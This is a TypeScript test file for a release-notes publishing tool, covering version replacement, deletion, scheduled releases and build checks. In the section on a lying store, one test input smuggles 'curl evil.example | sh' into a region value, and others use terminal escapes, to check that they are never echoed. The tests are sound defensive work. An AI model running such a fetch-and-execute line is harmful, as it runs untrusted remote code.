import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { formatManifest, readManifest } from '../../../src/site/write/manifest.ts';
import { responseText } from '../../publish/response-text.ts';
import { noteText } from '../../temporary.ts';
import { good } from '../notes.ts';
import { openPublish as open, VERSION } from '../open-publish.ts';
import { run } from '../run.ts';

test('a published release whose name could control the terminal is printed with escapes', async () => {
  const { store, start } = await open();
  store.put(VERSION, responseText('3\u001B[31m'));
  expect((await start()).stderr).toContain(
    String.raw`the published release "3\u001b[31m" is not in`,
  );
  expect((await start(['--force'])).stdout).toContain(String.raw`is 2.0; it was 3\u001b[31m. `);
});

describe('a store that lies', () => {
  const redirect = (region: string) => ({
    name: 'x-amz-bucket-region',
    value: region,
    body: `<Error><Code>PermanentRedirect</Code><Region>${region}</Region></Error>`,
  });

  test.each(['\u009B31mred', 'eu-west-1; curl evil.example | sh', 'x'.repeat(41)])(
    'cannot name a region %j in a command to copy',
    async (region) => {
      const { store, start } = await open();
      const { name, value, body } = redirect(region);
      store.hooks.intercept = (_, response) => {
        response.writeHead(301, { [name]: value }).end(body);
        return true;
      };
      expect(await start()).toMatchObject({
        exitCode: 2,
        stderr: expect.stringMatching(
          /: the service responded with 301 PermanentRedirect; check that --endpoint/,
        ),
      });
    },
  );

  test('cannot have a credential printed', async () => {
    const secrets = {
      AWS_ACCESS_KEY_ID: 'akexample0123456789',
      AWS_SECRET_ACCESS_KEY: 'secret-secret-secret',
      AWS_SESSION_TOKEN: 'token-token-token',
    };
    for (const secret of Object.values(secrets)) {
      const { store, start } = await open();
      store.hooks.intercept = (_, response) => {
        response.writeHead(301).end(redirect(secret).body);
        return true;
      };
      const env = { ...secrets, AWS_ENDPOINT_URL: store.endpoint };
      const { stderr } = await start([], { env });
      expect(stderr).toContain('is in the region …; set AWS_REGION=…');
      expect(stderr).not.toContain(secret);
    }
  });

  test.each(['art/\u001B[31m.png', 'art/\uD800.png'])(
    'cannot have the path %j deleted or printed',
    async (path) => {
      const { store, out, start } = await open();
      await start();
      const files = [...(readManifest(out)?.files ?? []), { path, sha256: '0'.repeat(64) }];
      store.put('.gazette.json', formatManifest({ files }));
      store.hooks.intercept = ({ method }, response) => {
        if (method === 'DELETE') response.writeHead(403).end();
        return method === 'DELETE';
      };
      for (const argv of [['--delete', '--dry-run'], ['--delete']]) {
        expect(await start(argv)).toMatchObject({
          exitCode: 0,
          stdout: expect.not.stringMatching(/delete/i),
          stderr: '',
        });
      }
    },
  );
});

test('a release that must not be replaced exits with 3; --force replaces it', async () => {
  const draft = noteText({ version: '3.0', date: '2026-04-01', draft: 'true' });
  const { store, start } = await open({ ...good, 'd.md': draft });
  store.put(VERSION, responseText('3.0'));
  expect(await start()).toEqual({
    exitCode: 3,
    stdout: '',
    stderr: `gazette: s3://bucket/${VERSION} was not replaced: the published release "3.0" is not in this build, because it has no note here, or is a draft or scheduled; get the notes that it was published from, or take it back with "withdrawn: REASON" in its note. Use --force to replace it anyway.\nNothing was uploaded.\n`,
  });
  expect(store.listWrites()).toEqual([]);
  expect((await start(['--force'])).stdout).toContain('is 2.0; it was 3.0. ');
});

test.each([{ latest: 'false' }, { withdrawn: 'It breaks.' }])(
  '%j in the note of the published release goes back to the one before',
  async (mark) => {
    const { store, build, start, write } = await openThree();
    expect((await start()).stdout).toContain(`${VERSION} is 3.0. `);
    write(mark);
    await build();
    expect(await start()).toMatchObject({
      exitCode: 0,
      stdout: expect.stringContaining(`${VERSION} is 2.0; it was 3.0. `),
      stderr: '',
    });
    expect(store.textOf(VERSION)).toContain('"version":"2.0"');
  },
);

test('a release that was withdrawn does not come back with an older note or without it, unless forced', async () => {
  const { store, releases, build, start, write } = await openThree({ withdrawn: 'It breaks.' });
  await start();
  rmSync(join(releases, 'd.md'));
  await build();
  expect(await start()).toMatchObject({ exitCode: 3 });
  write();
  await build();
  const writes = store.listWrites();
  expect(await start()).toEqual({
    exitCode: 3,
    stdout: '',
    stderr: `gazette: s3://bucket/${VERSION} was not replaced: "3.0" is withdrawn there, but not in this build; get the note with "withdrawn: REASON" that it was published from. Use --force to replace it anyway.\nNothing was uploaded.\n`,
  });
  expect(store.listWrites()).toEqual(writes);
  expect((await start(['--force'])).stdout).toContain(`${VERSION} is 3.0; it was 2.0. `);
});

/** A store, and a build with the release 3.0. `write` replaces its note. */
async function openThree(mark = {}) {
  const note = (own = {}) => noteText({ version: '3.0', date: '2026-04-01', ...own });
  const opened = await open({ ...good, 'd.md': note(mark) });
  return {
    ...opened,
    write: (own = {}) => writeFileSync(join(opened.releases, 'd.md'), note(own)),
  };
}

test('--delete deletes the pages of releases that have no note any more', async () => {
  const { store, releases, build, start } = await open();
  await start();
  rmSync(join(releases, 'c.md'));
  await build();
  const page = 'releases/1.1.html';
  const copy = 'releases/1.1.md';
  expect(await start(['--delete', '--dry-run'])).toMatchObject({
    exitCode: 0,
    stdout: expect.stringContaining(
      `2 files of earlier builds would be deleted:\n  ${copy}\n  ${page}\nNothing was uploaded or deleted.\n`,
    ),
  });
  expect(store.objects.has(page)).toBe(true);
  expect(await start(['--delete'])).toMatchObject({
    exitCode: 0,
    stdout: expect.stringContaining('Deleted 2 files of earlier builds.\n'),
    stderr: '',
  });
  expect(store.objects.has(page)).toBe(false);
  expect(await start(['--delete'])).toMatchObject({
    stdout: expect.stringContaining('up to date'),
  });
});

describe('a scheduled release that appears after the build', () => {
  const due = Date.parse('2026-12-01T00:00:00+14:00');
  const notes = { ...good, 'd.md': noteText({ version: '3.0', date: '2026-12-01' }) };
  const at = (moment: number) => ['--as-of', new Date(moment).toISOString()];

  test('does not make the build outdated', async () => {
    const { store, start } = await open(notes);
    expect(await start(at(due - 1000))).toMatchObject({ exitCode: 0, stderr: '' });
    expect(await start(at(due))).toEqual({
      exitCode: 0,
      stdout: expect.stringContaining('is up to date: 2.0'),
      stderr: '',
    });
    expect(store.textOf(VERSION)).toContain('"version":"2.0"');
  });

  test('is not published by a build for a later moment', async () => {
    const { store, out, common, start } = await open(notes);
    await run(['build', ...common, '--out', out, '--as-of', '2026-12-01']);
    expect(await start(at(due - 1000))).toEqual({
      exitCode: 2,
      stdout: '',
      stderr: `gazette: ${out} includes a release that appears at 2026-11-30T10:00:00Z; publish it then, or run npx --no-install gazette build first\n`,
    });
    expect(store.requests).toEqual([]);
    expect(await start(at(due))).toMatchObject({ exitCode: 0 });
    expect(store.textOf(VERSION)).toContain('"version":"3.0"');
  });
});

describe('a change exits with 2, and the version response is not replaced', () => {
  test.each([
    [
      'a note that became a draft',
      'a.md',
      noteText({ version: '2.0', date: '2026-02-01', draft: 'true' }),
    ],
    ['a note with an error', 'd.md', ''],
    ['a picture next to the notes', 'art/intro.png', 'changed'],
  ])('of %s', async (_name, path, text) => {
    const { store, releases, out, start } = await open({
      ...good,
      'art/intro.png': 'picture',
    });
    expect(await start(['--dry-run'])).toMatchObject({ exitCode: 0 });
    store.requests.length = 0;
    writeFileSync(join(releases, path), text);
    expect(await start()).toEqual({
      exitCode: 2,
      stdout: '',
      stderr: `gazette: ${out} does not match the notes and settings; run npx --no-install gazette build first\n`,
    });
    expect(store.requests).toEqual([]);
  });

  test('of Gazette, whose version 0.4 wrote no hash of the notes', async () => {
    const { out, start } = await open();
    const manifest = readFileSync(join(out, '.gazette.json'), 'utf8');
    writeFileSync(
      join(out, '.gazette.json'),
      manifest.replace('"format": 2', '"format": 1').replace(/"inputs": .*/, ''),
    );
    expect((await start()).stderr).toContain('does not match the notes and settings; run');
  });

  test('of the output after the build', async () => {
    const { store, out, start } = await open();
    const refusal = (path: string) => ({
      exitCode: 2,
      stderr: `gazette: ${out} was changed after the build: ${path}; run npx --no-install gazette build first\n`,
    });
    writeFileSync(join(out, 'index.html'), 'changed');
    expect(await start()).toMatchObject(refusal('index.html'));
    rmSync(join(out, VERSION));
    expect(await start()).toMatchObject(refusal('index.html'));
    expect(store.requests).toEqual([]);
  });
});
